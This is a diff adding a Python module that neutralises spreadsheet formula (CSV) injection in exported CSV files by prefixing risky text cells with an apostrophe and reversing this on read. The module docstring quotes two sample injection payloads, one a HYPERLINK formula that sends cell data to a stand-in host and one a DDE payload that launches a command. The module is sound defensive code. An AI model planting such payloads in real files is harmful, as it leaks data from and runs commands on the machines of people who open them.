@@ -1,0 +1,73 @@
+"""CSV files for people: a text cell a spreadsheet would run as a formula is written with a leading `'`.
+
+A corporation is data from outside. Names such as `=HYPERLINK("http://x.example/?leak="&B2,"click")` or
+`+cmd|' /C calc'!A0`, written verbatim, are run by a spreadsheet that opens the file (OWASP's CSV injection).
+The rule, the one place for it (docs/security.md):
+
+- writing: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which a
+  spreadsheet shows as text and never evaluates; a text cell that already begins with `'` gets one more, so that
+- reading: exactly one leading `'` is taken off a text cell, and every original value comes back as it was.
+
+Only text columns (the id, the top reason): numbers (`-0.05`, a rank change of `-3`) stay numbers, and the header
+holds the configured column names. `write_frame` is the writer of every CSV the system writes for people
+(risklist.csv, served as GET /risklist.csv), `read_frame` and `restored` its readers' half.
+The pipeline's own data (finaldata.csv, trainingdata.csv, the database's batches) stays as the sources said it:
+see docs/security.md for why.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable, Mapping
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+
+from drs.fileio import atomic_output
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list: what makes a spreadsheet read a cell as a formula
+MARK = "'"  # a spreadsheet's "this is text": shown, never evaluated
+MARKED = (*FORMULA_STARTS, MARK)
+
+
+def neutralised(text: str) -> str:
+    """`text` as a cell a spreadsheet shows and never runs: `'` before a formula's first character or a `'`."""
+    return MARK + text if text.startswith(MARKED) else text
+
+
+def restored(text: str) -> str:
+    """The original of a cell `neutralised` wrote: one leading `'` less."""
+    return text[1:] if text.startswith(MARK) else text
+
+
+def text_columns(frame: pd.DataFrame) -> list[str]:
+    """The columns that hold text (object or string dtype), never numbers."""
+    return [str(c) for c in frame.columns if pd.api.types.is_object_dtype(frame[c]) or pd.api.types.is_string_dtype(frame[c])]
+
+
+def _mapped(frame: pd.DataFrame, columns: Iterable[str], how: Any) -> pd.DataFrame:
+    changed = {c: frame[c].map(lambda v: how(v) if isinstance(v, str) else v) for c in columns if c in frame.columns}
+    return frame.assign(**changed) if changed else frame
+
+
+def neutralised_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """`frame` with every text cell neutralised; numbers and missing values as they are."""
+    return _mapped(frame, text_columns(frame), neutralised)
+
+
+def restored_frame(frame: pd.DataFrame, columns: Iterable[str]) -> pd.DataFrame:
+    """`frame` (as read from a file `write_frame` wrote) with the text `columns` restored; pure."""
+    return _mapped(frame, columns, restored)
+
+
+def write_frame(frame: pd.DataFrame, path: Path) -> None:
+    """Write `frame` as CSV for people, atomically: a header, no index, `\\n` line ends, text cells neutralised."""
+    with atomic_output(path) as tmp:
+        neutralised_frame(frame).to_csv(tmp, index=False, lineterminator="\n")
+
+
+def read_frame(path: Path, dtype: Mapping[str, Any] | None = None) -> pd.DataFrame:
+    """A CSV `write_frame` wrote, as written: only an empty cell is missing (a corporation "NA" stays a name), and every
+    text column (read as text: give the id and reason columns the dtype "str") restored to its original values."""
+    frame = pd.read_csv(path, keep_default_na=False, na_values=[""], dtype=dict(dtype or {}))
+    return restored_frame(frame, text_columns(frame))
